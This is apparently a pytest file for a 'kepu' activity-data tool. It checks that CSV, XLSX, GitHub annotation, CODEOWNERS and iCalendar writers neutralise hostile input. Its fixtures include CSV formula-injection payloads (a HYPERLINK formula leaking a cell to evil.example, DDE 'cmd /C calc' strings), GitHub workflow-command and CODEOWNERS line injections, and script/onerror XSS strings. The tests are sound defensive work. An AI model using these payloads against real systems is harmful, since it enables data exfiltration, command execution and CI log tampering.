"""Hostile input (issue 11): each writer escapes what it writes for its own format.

Every case runs the real command in a temporary repository (the ``repo`` fixture), checks its exit
code and message, and then reads the output back with the format's own parser: annotation lines
split as GitHub splits them, CSV through ``csv``, XLSX through openpyxl, CODEOWNERS line by line,
.ics through icalendar. Nothing hostile may come out interpreted.
"""

from __future__ import annotations

import csv
import io
import json
import re

import openpyxl
import pytest
import yaml
from conftest import BASE_ACTIVITY, BASE_CAMPAIGN, CAMPAIGN_ID, Repo, line_of, set_fields
from icalendar import Calendar

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are YAML): the test controls every character."""
    return json.dumps(text, ensure_ascii=False)


# ---- GitHub workflow commands -------------------------------------------------------------------

HOSTILE_NAMES = [
    "x\n::add-mask::kepu",  # would hide "kepu" in every later log line
    "y\n::warning file=README.md,line=1::伪造的警告",  # a second, forged annotation
    "z,line=999",  # moves the annotation to another line
    "w\r::error::假错误%0A",  # CR, and a literal escape sequence that must stay literal
]


def _unescape_property(value: str) -> str:
    """GitHub's runner: the property escapes in reverse order (toolkit escapeProperty)."""
    for code, ch in (("%2C", ","), ("%3A", ":"), ("%0A", "\n"), ("%0D", "\r"), ("%25", "%")):
        value = value.replace(code, ch)
    return value


def _annotations(text: str) -> list[tuple[str, dict[str, str], str]]:
    """Parse workflow commands as the runner does: a line starting with "::" is a command, its
    properties are split at "," and "=", its message follows the second "::"."""
    found = []
    for line in text.splitlines():
        if not line.startswith("::"):
            continue
        m = re.match(r"^::([a-z-]+)(?: ([^:]*))?::(.*)$", line)
        assert m, f"unparsable command line {line!r}"
        props = {}
        for part in (m[2] or "").split(","):
            key, _, value = part.partition("=")
            props[key] = _unescape_property(value)
        found.append((m[1], props, m[3]))
    return found


def test_github_annotations_name_hostile_files_literally(repo: Repo) -> None:
    repo.baseline()
    paths = [repo.activity(name=name) for name in HOSTILE_NAMES]
    res = repo.check("--format", "github")
    assert res.rc == 1
    commands = _annotations(res.out)
    # every stdout line is one annotation: nothing was split off into a command of its own
    assert len(commands) == len(res.out.splitlines()), res.out
    assert {kind for kind, _, _ in commands} == {"error"}, res.out
    for _, props, msg in commands:
        assert set(props) <= {"file", "line", "col"}, props
        assert props["file"] in paths, props
        assert props.get("line", "0") != "999"
        assert "\n" not in msg and "\r" not in msg
    for path in paths:
        msgs = [msg for _, props, msg in commands if props["file"] == path]
        assert msgs, f"no annotation names {path!r}"
        # the message names the file too, on one line, and says what is wrong
        assert any("只能用小写英文字母" in m for m in msgs), msgs
    # the plain format used by humans (and still read by the runner in CI) is one line a problem
    text = repo.check()
    assert text.rc == 1
    assert not [ln for ln in text.out.splitlines() if ln.startswith("::")], text.out
    for path in paths:
        escaped = path.replace("\n", "\\n").replace("\r", "\\r")  # shown as Python writes it
        assert any(ln.startswith(f"{escaped}: 错误: ") for ln in text.out.splitlines()), text.out


# ---- spreadsheets -------------------------------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?d="&A1,"点此报名")',
    "organizer": "+cmd|' /C calc'!A0",
    "venue": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "-2+3+cmd|' /C calc'!A0",
}


def _hostile_campaign() -> str:
    return BASE_CAMPAIGN.replace("wujin: 武进区", f"wujin: {q('=1+1武进区')}").replace(
        "gedi-tese: 各地各部门特色活动", f"gedi-tese: {q('@各地各部门特色活动')}"
    )


def _hostile_activities(repo: Repo) -> None:
    repo.campaign(_hostile_campaign())
    text = set_fields(BASE_ACTIVITY, title=q(FORMULAS["title"]), organizer=q(FORMULAS["organizer"]))
    text = text.replace("name: 常州大学实验楼", f"name: {q(FORMULAS['venue'])}")
    text = text.replace("address: 江苏省常州市武进区滆湖中路21号", f"address: {q(FORMULAS['address'])}")
    repo.activity(text)
    repo.activity(set_fields(BASE_ACTIVITY, title=q("\t=1+2 科普讲座")), name="tab")


def _assert_csv_inert(data: bytes, must_see: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert not live, f"cells a spreadsheet would evaluate: {live}"
    for text in must_see:  # the hostile text is still there, as text behind the quote
        assert "'" + text in cells, (text, cells)


def test_activities_csv_cells_are_never_formulas(repo: Repo) -> None:
    _hostile_activities(repo)
    repo.site_files()
    res = repo.run("build", "-q", "-d", "out")
    assert res.rc == 0, res.text
    _assert_csv_inert((repo.root / "out" / CAMPAIGN_ID / "activities.csv").read_bytes(),
                      [FORMULAS["title"], FORMULAS["organizer"], FORMULAS["venue"], "=1+1武进区"])


def test_stats_csv_and_xlsx_cells_are_never_formulas(repo: Repo) -> None:
    _hostile_activities(repo)
    res = repo.run("stats", "--campaign", CAMPAIGN_ID, "--format", "csv", "-o", "stats.csv")
    assert res.rc == 0, res.text
    _assert_csv_inert((repo.root / "stats.csv").read_bytes(), ["=1+1武进区", "@各地各部门特色活动"])
    res = repo.run("stats", "--campaign", CAMPAIGN_ID, "--format", "xlsx", "-o", "stats.xlsx")
    assert res.rc == 0, res.text
    wb = openpyxl.load_workbook(repo.root / "stats.xlsx")
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate} {cell.value!r} is a formula"
                    seen.append(cell.value)
    assert "=1+1武进区" in seen and "@各地各部门特色活动" in seen
    assert any(FORMULAS["title"] in v for v in seen)  # the title, in the 待补充 sheet


def test_export_writes_text_cells_and_round_trips(repo: Repo) -> None:
    repo.campaign()
    files = [repo.activity(set_fields(BASE_ACTIVITY, title=q(t)), name=n)
             for t, n in (("=1+2 科普讲座", "eq"), ("-3 度的冰雪科普", "minus"), ("@科协 讲座", "at"))]
    before = {f: (repo.root / f).read_bytes() for f in files}
    res = repo.run("export", "--campaign", CAMPAIGN_ID, "-o", "out.xlsx")
    assert res.rc == 0, res.text
    ws = openpyxl.load_workbook(repo.root / "out.xlsx").active
    titles = {ws.cell(r, 1).value: ws.cell(r, 1).data_type for r in range(2, ws.max_row + 1)}
    assert titles == {"=1+2 科普讲座": "s", "-3 度的冰雪科普": "s", "@科协 讲座": "s"}
    res = repo.run("import", "out.xlsx", "--campaign", CAMPAIGN_ID, "--update")
    assert res.rc == 0, res.text
    assert "更新 0 个" in res.out, res.out
    assert {f: (repo.root / f).read_bytes() for f in files} == before


# ---- CODEOWNERS ---------------------------------------------------------------------------------

RULE_RE = re.compile(r"^/campaigns/[a-z0-9-]+/activities/[a-z0-9-]+/( @[A-Za-z0-9-]+(/[\w.-]+)?)+$")


def _codeowners_rules(repo: Repo) -> list[str]:
    """Every line GitHub would read as a rule (not blank, not a comment), each checked."""
    text = (repo.root / ".github" / "CODEOWNERS").read_text(encoding="utf-8")
    rules = [ln for ln in re.split(r"\r\n|\r|\n", text) if ln.strip() and not ln.lstrip().startswith("#")]
    for rule in rules:
        assert RULE_RE.match(rule), f"not a rule kepu writes: {rule!r}"
    return rules


@pytest.mark.parametrize("value", ["tianning-team", "@org/wujin\n* @evil", "@组织/团队", "@org/wujin #x"])
def test_invalid_owners_refused_by_check_and_codeowners(repo: Repo, value: str) -> None:
    text = BASE_CAMPAIGN + f"owners:\n  wujin: {q(value)}\n"
    rel = repo.campaign(text)
    repo.activity()
    res = repo.check()
    assert res.rc == 1
    # a line break is refused by the one-line rule (tests/test_refuse.py) before the owner check
    phrases = ("换行",) if "\n" in value else ("不是 GitHub 用户或团队", '"@组织/团队"')
    p = res.find(rel, line_of(text, "  wujin: \""), *phrases)
    assert p.msg.startswith("owners.wujin：")
    assert "\n" not in p.msg
    res = repo.run("codeowners")
    assert res.rc == 1 and "owners.wujin" in res.err, res.text
    assert not (repo.root / ".github" / "CODEOWNERS").exists()


def test_campaign_title_cannot_add_a_codeowners_rule(repo: Repo) -> None:
    title = "2022年测试市“全国科普日”活动\n* @evil/all\r/campaigns/ @evil/all"
    text = set_fields(BASE_CAMPAIGN, title=q(title)) + 'owners:\n  wujin: "@org/wujin"\n'
    repo.campaign(text)
    repo.activity()
    res = repo.run("codeowners")
    if res.rc == 0:
        assert _codeowners_rules(repo) == [f"/campaigns/{CAMPAIGN_ID}/activities/wujin/ @org/wujin"]
    else:  # a check that refuses line breaks in titles is just as good: then nothing is written
        assert res.rc == 1 and "title" in res.err, res.text
        assert not (repo.root / ".github" / "CODEOWNERS").exists()


def test_valid_owners_still_written(repo: Repo) -> None:
    owners = 'owners:\n  wujin: "@changzhou-kexie/wujin, @li-ming"\n  xinbei: "@ab/c_d.e"\n'
    repo.campaign(BASE_CAMPAIGN + owners)
    repo.activity()
    assert repo.check().rc == 0
    res = repo.run("codeowners")
    assert res.rc == 0, res.text
    assert _codeowners_rules(repo) == [
        f"/campaigns/{CAMPAIGN_ID}/activities/wujin/ @changzhou-kexie/wujin @li-ming",
        f"/campaigns/{CAMPAIGN_ID}/activities/xinbei/ @ab/c_d.e",
    ]


# ---- iCalendar ----------------------------------------------------------------------------------

ICS_ACTIVITY = """\
title: 常州大学化工实验室科普开放日
organizer: "<b>常州大学</b><script>alert('o')</script>科协"
co_organizers: ["<i onclick=alert(1)>武进区科协</i>"]
category: gedi-tese
start: 2022-09-17 09:30
end: 2022-09-17 11:30
venue:
  name: 常州大学实验楼
online:
  url: "https://live.example.cn/<script>alert('u')</script>?a=\\"b\\""
  platform: "<img src=x onerror=alert('p')>抖音直播"
registration:
  required: true
  url: "https://reg.example.cn/<svg/onload=alert(1)>"
contact:
  name: "<a href='javascript:alert(1)'>王老师</a>"
  phone: "0519-<b>8888</b>"
  public: true
"""


def test_ics_description_is_plain_text_and_categories_split_alike(repo: Repo) -> None:
    campaign = BASE_CAMPAIGN.replace("gedi-tese: 各地各部门特色活动", "gedi-tese: 讲座,展览;实验\\演示")
    repo.campaign(campaign)
    repo.activity(ICS_ACTIVITY)
    assert repo.check().rc == 0
    repo.site_files()
    res = repo.run("build", "-q", "-d", "out")
    assert res.rc == 0, res.text
    feeds = sorted((repo.root / "out").rglob("*.ics"))
    assert feeds
    events = 0
    for path in feeds:
        raw = path.read_bytes()
        for ev in Calendar.from_ical(raw).walk("VEVENT"):
            events += 1
            desc = str(ev["DESCRIPTION"])
            assert not re.search(r"<[A-Za-z/!]", desc), f"{path.name}: markup in DESCRIPTION: {desc!r}"
            assert '"' not in desc
            for text in ("主办：常州大学alert('o')科协", "协办：武进区科协", "抖音直播", "王老师",
                         "0519-8888",
                         "https://live.example.cn/%3Cscript%3Ealert('u')%3C/script%3E?a=%22b%22",
                         "https://reg.example.cn/%3Csvg/onload=alert(1)%3E"):
                assert text in desc, (text, desc)
            cats = [str(c) for c in ev["CATEGORIES"].cats]
            assert "讲座，展览；实验＼演示" in cats, cats
        # node-ical (older releases) splits the raw value at every comma; libical and icalendar
        # only at unescaped ones: with no escaped separators in the line they agree
        for line in raw.decode().replace("\r\n ", "").splitlines():
            if line.startswith("CATEGORIES:"):
                assert "\\," not in line and "\\;" not in line and "\\\\" not in line, line
    assert events >= 5


# ---- kepu new -----------------------------------------------------------------------------------

@pytest.mark.parametrize("title", ["讲座«x»", "讲座«title»{year}", "讲座: 光 # 与影", "'单引号", "@科协讲座"])
def test_new_writes_any_title_as_text(repo: Repo, title: str) -> None:
    repo.campaign()
    res = repo.run("new", "activity", "--campaign", CAMPAIGN_ID, "--district", "wujin", "--title", title,
                   "xin")
    assert res.rc == 0, res.text
    path = repo.root / "campaigns" / CAMPAIGN_ID / "activities" / "wujin" / "xin.yml"
    assert yaml.safe_load(path.read_text(encoding="utf-8"))["title"] == title
    res = repo.run("new", "campaign", "2022-xin-kepuri", "--region", "测试市", "--title", title)
    assert res.rc == 2 or res.rc == 0, res.text  # the title may break a label rule: then refused
    cfile = repo.root / "campaigns" / "2022-xin-kepuri" / "campaign.yml"
    if res.rc == 0:
        assert yaml.safe_load(cfile.read_text(encoding="utf-8"))["title"] == title
    else:
        assert "没有通过检查" in res.err and not cfile.exists() and "Traceback" not in res.text


def test_new_activity_comment_keeps_a_hostile_campaign_title_on_one_line(repo: Repo) -> None:
    repo.campaign(set_fields(BASE_CAMPAIGN, title=q("2022年测试市“全国科普日”活动\nsubtheme: 注入")))
    res = repo.run("new", "activity", "--campaign", CAMPAIGN_ID, "--district", "wujin", "xin")
    path = repo.root / "campaigns" / CAMPAIGN_ID / "activities/wujin/xin.yml"
    if res.rc == 0:
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        assert "subtheme" not in data, data
    else:  # a check that refuses line breaks in titles refuses the campaign: nothing written
        assert res.rc == 2 and not path.exists() and "Traceback" not in res.text, res.text
